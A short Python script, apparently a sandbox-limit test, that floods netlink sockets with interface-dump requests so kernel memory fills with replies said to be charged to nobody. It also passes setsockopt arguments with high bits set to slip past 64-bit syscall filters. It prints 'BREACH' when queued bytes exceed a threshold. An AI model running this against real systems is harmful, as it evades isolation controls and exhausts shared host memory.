# Asks the kernel for its interfaces, and leaves the answers in netlink sockets, whose memory is charged to nobody.
import ctypes
import os
import socket
import struct

SOCKETS, MOST_OF_EACH = 12, 320 << 10
GETLINK, REQUEST_ACK = 18, 5
SETSOCKOPT, WIDE = 54, 1 << 32
libc = ctypes.CDLL(None)
request = struct.pack('IHHII', 32, GETLINK, REQUEST_ACK, 1, 0) + struct.pack('BxHiII', 0, 0, 1, 0, 0)
kept = []
for _ in range(SOCKETS):
    asking = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    for level, option in ((WIDE | 1, 8), (1, WIDE | 8)):   # the kernel reads 32 bits of each, and whoever looks at 64 sees other ones
        libc.syscall(SETSOCKOPT, asking.fileno(), ctypes.c_ulong(level), ctypes.c_ulong(option), ctypes.byref(ctypes.c_int(16 << 20)), 4)
    asking.setblocking(False)
    kept.append(asking)
    try:
        for _ in range(1500):
            asking.send(request)
    except OSError:
        pass
if os.path.exists('/proc/net/netlink'):
    held = sum(int(line.split()[4]) for line in open('/proc/net/netlink').read().splitlines()[1:])
    if held > SOCKETS * MOST_OF_EACH:
        print(f'BREACH: {held} bytes wait in netlink sockets')
